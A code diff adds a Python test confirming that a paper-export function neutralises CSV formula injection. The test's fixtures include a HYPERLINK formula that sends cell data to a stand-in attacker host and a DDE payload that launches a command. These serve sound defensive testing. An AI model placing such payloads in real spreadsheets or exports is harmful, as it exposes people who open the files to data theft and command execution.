@@ -82,3 +82,15 @@ def test_csv_round_trips_through_a_csv_reader() -> None:
     rows = list(csv.DictReader(io.StringIO("".join(export_papers(PAPERS, "csv")))))
     assert [r["id"] for r in rows] == [p.id for p in PAPERS]
     assert rows[3]["title"] == PAPERS[3].title and rows[0]["authors"] == "José Ñúñez; Ada Lovelace"
+
+
+def test_csv_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised() -> None:
+    hostile = [
+        _paper("2403.00011", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)"),
+        _paper("2403.00012", "+cmd|' /C calc'!A0", "Ada Lovelace"),
+        _paper("2403.00013", "-2+3 is a title too", "Ada Lovelace"),
+    ]
+    rows = list(csv.DictReader(io.StringIO("".join(export_papers(hostile, "csv")))))
+    assert [r["title"][0] for r in rows] == ["'", "'", "'"]
+    assert rows[0]["title"] == "'" + hostile[0].title and rows[0]["authors"] == "'@SUM(1+1)"
+    assert rows[1]["authors"] == "Ada Lovelace"  # ordinary text is left as it is
